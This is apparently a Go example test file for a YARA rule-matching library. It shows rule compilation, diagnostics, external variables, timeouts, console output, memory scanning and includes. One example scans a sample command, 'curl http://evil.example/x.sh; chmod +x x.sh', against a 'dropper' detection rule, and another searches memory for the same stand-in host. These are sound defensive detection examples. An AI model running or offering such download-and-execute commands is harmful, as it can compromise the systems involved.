package yara_test

import (
	"cmp"
	"context"
	"errors"
	"fmt"
	"os"
	"slices"
	"testing/fstest"

	"github.com/besra-hunt/besra/yara"
	"github.com/besra-hunt/besra/yara/diag"
	"github.com/besra-hunt/besra/yara/modules/standard"
)

func Example() {
	rules, err := yara.Compile(`
		rule dropper : trojan {
			meta:
				author = "a. n. analyst"
				score = 80
			strings:
				$url = /https?:\/\/[a-z.]+\/x\.sh/
				$run = "chmod +x"
			condition:
				$url and $run
		}`)
	if err != nil {
		fmt.Println(err)
		return
	}
	scanner := rules.NewScanner()
	results, err := scanner.Scan(context.Background(), []byte("curl http://evil.example/x.sh; chmod +x x.sh"))
	if err != nil {
		fmt.Println(err)
		return
	}
	for rule := range results.Matching() {
		fmt.Println(rule.Namespace(), rule.Name(), rule.Tags())
		for key, value := range rule.Meta() {
			fmt.Println("  ", key, "=", value)
		}
		for p := range rule.Patterns() {
			for m := range p.Matches() {
				fmt.Println("  ", p.ID(), "at", m.Offset, "length", m.Length)
			}
		}
	}
	// Output:
	// default dropper [trojan]
	//    author = a. n. analyst
	//    score = 80
	//    $url at 5 length 24
	//    $run at 31 length 8
}

// A compiler keeps the rules that are sound and reports the others.
func ExampleCompiler() {
	c := yara.NewCompiler(yara.WithModules(standard.Modules()...))
	c.AddSource(yara.Source{Namespace: "team", Origin: "good.yar", Text: []byte(`
		import "hash"
		rule empty { condition: hash.md5(0, filesize) == "d41d8cd98f00b204e9800998ecf8427e" }`)})
	c.AddSource(yara.Source{Namespace: "team", Origin: "bad.yar", Text: []byte(
		`rule broken { condition: $nowhere }`)})
	rules, diags := c.Build()
	fmt.Println("errors:", diags.HasErrors())
	_ = diag.Render(os.Stdout, diags, c.Lookup, diag.Options{})
	for rule := range rules.All() {
		fmt.Println("kept:", rule.Name())
	}
	// Output:
	// errors: true
	// error[unknown_pattern]: unknown pattern `$nowhere`
	//  --> bad.yar:1:26
	//   |
	// 1 | rule broken { condition: $nowhere }
	//   |                          ^^^^^^^^ this pattern is not declared in the `strings` section
	// kept: empty
}

// External variables are declared when rules are compiled, and set for each
// target.
func ExampleScanner_SetExternal() {
	rules, err := yara.Compile(`rule script { condition: filename endswith ".ps1" }`,
		yara.Define("filename", ""))
	if err != nil {
		fmt.Println(err)
		return
	}
	scanner := rules.NewScanner()
	for _, name := range []string{"a.txt", "b.ps1"} {
		if err := scanner.SetExternal("filename", name); err != nil {
			fmt.Println(err)
			return
		}
		results, err := scanner.Scan(context.Background(), nil)
		if err != nil {
			fmt.Println(err)
			return
		}
		fmt.Println(name, results.Len())
	}
	// Output:
	// a.txt 0
	// b.ps1 1
}

func ExampleTimeout() {
	rules, err := yara.Compile(`rule slow { condition: for all i in (0..1000000000000) : (i >= 0) }`)
	if err != nil {
		fmt.Println(err)
		return
	}
	_, err = rules.NewScanner(yara.Timeout(1)).Scan(context.Background(), nil)
	fmt.Println(errors.Is(err, yara.ErrTimeout))
	// Output: true
}

func ExampleConsole() {
	rules, err := yara.Compile(`
		import "console"
		rule log { condition: console.log("size: ", filesize) and console.hex(uint16(0)) }`,
		yara.WithModules(standard.Modules()...))
	if err != nil {
		fmt.Println(err)
		return
	}
	scanner := rules.NewScanner(yara.Console(func(line string) { fmt.Println(line) }))
	if _, err := scanner.Scan(context.Background(), []byte("MZ")); err != nil {
		fmt.Println(err)
	}
	// Output:
	// size: 2
	// 0x5a4d
}

// Memory is scanned by address: regions that touch are one run of bytes.
func ExampleScanner_ScanMemory() {
	rules, err := yara.Compile(`rule loader { strings: $url = "http://evil.example" condition: $url in (0x7000..0x8fff) }`)
	if err != nil {
		fmt.Println(err)
		return
	}
	memory := yara.Blocks{
		{Base: 0x400000, Data: []byte("code")},
		{Base: 0x7ff8, Data: []byte("http://e")},
		{Base: 0x8000, Data: []byte("vil.example/x")},
	}
	slices.SortFunc(memory, func(a, b yara.Block) int { return cmp.Compare(a.Base, b.Base) })
	results, err := rules.NewScanner().ScanMemory(context.Background(), memory)
	if err != nil {
		fmt.Println(err)
		return
	}
	for rule := range results.Matching() {
		for p := range rule.Patterns() {
			for m := range p.Matches() {
				fmt.Printf("%s %s at %#x, %d bytes\n", rule.Name(), p.ID(), m.Offset, m.Length)
			}
		}
	}
	fmt.Println("could not be read:", len(results.Gaps()))
	// Output:
	// loader $url at 0x7ff8, 19 bytes
	// could not be read: 0
}

func ExampleIncludesFS() {
	files := fstest.MapFS{"lib/base.yar": {Data: []byte(`private rule small { condition: filesize < 100 }`)}}
	rules, err := yara.Compile(`include "lib/base.yar" rule tiny { condition: small }`, yara.IncludesFS(files))
	if err != nil {
		fmt.Println(err)
		return
	}
	results, err := rules.NewScanner().Scan(context.Background(), []byte("x"))
	if err != nil {
		fmt.Println(err)
		return
	}
	for rule := range results.Matching() {
		fmt.Println(rule.Name())
	}
	// Output: tiny
}
